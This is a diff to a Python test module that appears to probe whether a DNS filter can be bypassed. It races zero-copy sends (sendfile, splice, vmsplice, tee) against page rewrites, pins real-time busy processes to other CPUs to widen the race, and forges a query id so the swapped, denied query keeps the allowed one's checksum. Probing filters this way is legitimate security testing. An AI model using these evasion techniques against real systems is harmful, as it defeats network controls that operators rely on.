@@ -12,14 +12,15 @@ import os
 import socket
 import ssl
 import struct
+import time
 
 import calls
 from hello import OURS, THEIRS, hello, post, record, unconnected
 from rows_c import query
-from technique import CDN4, CDN6, GOOD4, GOOD6, RESOLVER4, RESOLVER6, resolve, technique
+from technique import CDN4, CDN6, GOOD4, GOOD6, RESOLVER4, RESOLVER6, NotHere, resolve, technique
 
-TRIES = 60
-AHEAD = 80  # queries that the resolver has to read first
+TRIES = 30
+AHEAD = 10  # queries that the resolver has to read first
 TRUSTED = (f"--resolver={RESOLVER4}", f"--resolver={RESOLVER6}")
 
 
@@ -60,12 +61,70 @@ def by_tee(sock, memory, page, length):
 CALLS = {"sendfile": by_sendfile, "splice": by_splice, "vmsplice": by_vmsplice, "tee": by_tee}
 
 
-def hurry(on):
-    """Outside, where it must be seen to work: whoever is woken by what is sent waits until the page has changed."""
-    try:
+class Hurry:
+    """Outside, where it must be seen to work, nobody who reads runs until the page has changed: we and a busy process
+    on each other CPU are real-time. Where that may not be set, all goes as it goes."""
+
+    def __init__(self):
+        self.pids, self.shared = [], mmap.mmap(-1, 4096)
+        self.cpus = sorted(os.sched_getaffinity(0))
+        try:
+            self.real_time(True)
+            self.real_time(False)
+        except PermissionError:
+            return
+        for place, cpu in enumerate(self.cpus[1:], 1):
+            pid = os.fork()
+            if pid == 0:
+                self.busy(place, cpu)
+            self.pids.append(pid)
+        os.sched_setaffinity(0, self.cpus[:1])
+
+    @staticmethod
+    def real_time(on):
         os.sched_setscheduler(0, os.SCHED_FIFO if on else os.SCHED_OTHER, os.sched_param(1 if on else 0))
-    except PermissionError:
-        pass
+
+    def busy(self, place, cpu):
+        os.sched_setaffinity(0, [cpu])
+        self.real_time(True)
+        end = time.monotonic() + 60
+        while self.shared[0] != 2 and time.monotonic() < end:
+            if self.shared[0] == 0:
+                time.sleep(0.0005)
+                continue
+            self.shared[place] = 1
+            while self.shared[0] == 1 and time.monotonic() < end:
+                pass
+            self.shared[place] = 0
+        os._exit(0)
+
+    def __enter__(self):
+        if self.pids or len(self.cpus) == 1:
+            try:
+                self.real_time(True)
+            except PermissionError:
+                return
+        self.shared[0] = 1
+        end = time.monotonic() + 0.3
+        while not all(self.shared[1:1 + len(self.pids)]) and time.monotonic() < end:
+            time.sleep(0.0002)
+
+    def __exit__(self, *_):
+        self.shared[0] = 0
+        if self.pids or len(self.cpus) == 1:
+            try:
+                self.real_time(False)
+            except PermissionError:
+                pass
+
+    def end(self):
+        self.shared[0] = 2
+        for pid in self.pids:
+            os.waitpid(pid, 0)
+        os.sched_setaffinity(0, self.cpus)
+
+
+HURRY = []
 
 
 def swapped(sock, before, after, send):
@@ -76,12 +135,11 @@ def swapped(sock, before, after, send):
     page = mmap.mmap(memory, 4096)
     page[:len(before)] = before
     end, opened = len(after), ()
-    hurry(True)
     try:
-        opened = send(sock, memory, page, end)
-        page[:end] = after
+        with HURRY[0]:
+            opened = send(sock, memory, page, end)
+            page[:end] = after
     finally:
-        hurry(False)
         for fd in (memory, *opened):
             os.close(fd)
 
@@ -103,15 +161,19 @@ def handed(sock, data, send):
 def again(t, sock, attempt):
     """Until the marker has come back, each time on a socket of its own. The last failure is the word."""
     failure = None
-    for _ in range(TRIES):
-        with sock() as one:
-            try:
-                attempt(one)
-                if t.marker in one.recv(4096):
-                    return
-                failure = None
-            except OSError as error:
-                failure = error
+    HURRY[:] = [Hurry()]
+    try:
+        for _ in range(TRIES):
+            with sock() as one:
+                try:
+                    attempt(one)
+                    if t.marker in one.recv(4096):
+                        return
+                    failure = None
+                except OSError as error:
+                    failure = error
+    finally:
+        HURRY[0].end()
     if failure:
         raise failure
 
@@ -129,6 +191,17 @@ def names(t):
     return "x" * (len(denied) - len(".wild.test")) + ".wild.test", denied
 
 
+def words(data):
+    return sum(struct.unpack(f"!{len(data) // 2}H", data[:len(data) // 2 * 2])) + (data[-1] << 8 if len(data) % 2 else 0)
+
+
+def same_sum(before, after):
+    """`after` with an id that makes its checksum that of `before`: before Linux 6.5 it is made when a page is handed
+    over."""
+    new = (words(before) - words(b"\0\0" + after[2:])) % 0xffff
+    return struct.pack("!H", new) + after[2:]
+
+
 def dns_udp(t, six, send):
     resolver = RESOLVER6 if six else RESOLVER4
 
@@ -138,6 +211,7 @@ def dns_udp(t, six, send):
         one.connect((resolver, 53))
         return one
     ours, theirs = map(query, names(t))
+    theirs = same_sum(ours, theirs)
 
     def attempt(one):
         with sock() as other:
@@ -263,6 +337,8 @@ def uncorked(t):
 @technique("A13", "udp-cork", oracle="marker", allow=False, timeout=8)
 def udp_cork(t):
     """a query of which the header is sent and the rest spliced, in one datagram (UDP_CORK)"""
+    if tuple(map(int, os.uname().release.split(".")[:2])) < (6, 5):
+        raise NotHere("the kernel has made the checksum when the page changes")
     ours, theirs = map(query, names(t))
 
     def sock():
